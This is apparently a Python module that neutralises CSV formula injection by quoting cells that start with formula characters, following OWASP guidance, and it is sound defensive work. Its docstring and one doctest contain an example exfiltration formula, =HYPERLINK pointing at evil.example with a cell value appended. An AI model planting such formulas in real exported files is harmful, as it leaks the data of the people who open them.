"""CSV cells a spreadsheet will not run as formulas (CSV / formula injection).

A customer can type ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` as
their city; a marketer who opens the exported CSV in Excel, LibreOffice or
Google Sheets would run it. Following OWASP's "CSV Injection" guidance, every
text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (and the full-width forms ``＝ ＋ － ＠`` that some spreadsheets also
read as formula starts) gets a leading single quote, which spreadsheets show
as text and do not evaluate. The CSV writer quotes the cell and escapes its
double quotes.

Left unchanged, so imports keep working:

- numeric columns (ints, floats, booleans, dates) — they cannot hold a formula;
- text cells that are a plain number (``-12.5``, ``+3``, ``1e-3``): negative
  amounts and signed numbers stay numbers;
- e-mail addresses and every cell that does not start with one of the characters.

Pipelines that need the raw values (a loader, not a person, reads the file)
pass ``raw=True`` (``--raw`` on the CLI).

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "is_formula", "neutralise_cell", "neutralise_formulas", "write_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_STARTS = "".join(re.escape(c) for c in FORMULA_STARTS)
_FORMULA = re.compile(rf"[{_STARTS}]")


def is_formula(value: object) -> bool:
    """True when ``value`` is text a spreadsheet would evaluate (see the module docstring).

    Examples
    --------
    >>> is_formula('=1+1'), is_formula('-12.5'), is_formula('a@b.example'), is_formula(-3)
    (True, False, False, False)
    """
    return isinstance(value, str) and value[:1] in FORMULA_STARTS and _PLAIN_NUMBER.fullmatch(value) is None


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is a formula; anything else unchanged.

    Examples
    --------
    >>> neutralise_cell('=HYPERLINK("http://evil.example","x")')
    '\\'=HYPERLINK("http://evil.example","x")'
    >>> neutralise_cell('Berlin')
    'Berlin'
    """
    return "'" + value if is_formula(value) else value


def neutralise_formulas(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose text cells cannot run as spreadsheet formulas.

    Only object and string columns are looked at; one vectorised pass each.
    """
    out = table.copy()
    for column in out.columns:
        series = out[column]
        if not (pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series)):
            continue
        text = series.where(series.map(lambda v: isinstance(v, str)), None).astype("string")
        risky = text.str.match(_FORMULA, na=False) & ~text.str.fullmatch(_PLAIN_NUMBER, na=False)
        if bool(risky.any()):
            out[column] = series.astype(object).where(~risky.to_numpy(), "'" + text.astype(object))
    return out


def write_csv(table: pd.DataFrame, path: str | Path | None = None, *, raw: bool = False) -> str | None:
    """Write ``table`` as CSV (no index) to ``path``, or return the text when ``path`` is None.

    Parameters
    ----------
    raw : bool, default=False
        Write cells verbatim (for machine pipelines). By default formulas are
        neutralised with :func:`neutralise_formulas`.
    """
    safe = table if raw else neutralise_formulas(table)
    if path is None:
        return safe.to_csv(index=False)
    safe.to_csv(path, index=False)
    return None
